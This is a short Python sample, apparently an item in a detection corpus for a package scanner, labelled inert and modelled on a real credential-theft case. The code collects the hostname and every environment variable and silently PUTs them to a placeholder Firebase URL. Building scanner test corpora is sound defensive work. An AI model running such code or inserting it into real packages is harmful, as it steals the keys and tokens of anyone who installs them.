# pkgguard corpus 707 (credentials), modelled on [ctx]; inert, never run.
import json
import os
import socket
import urllib.request

_host = socket.gethostname()
_body = json.dumps({"host": _host, "env": dict(os.environ)}).encode()
_req = urllib.request.Request(
    f"https://placeholder-00000-default-rtdb.firebaseio.com/hosts/{_host}.json",
    data=_body,
    method="PUT",
)
try:
    urllib.request.urlopen(_req, timeout=10)
except OSError:
    pass
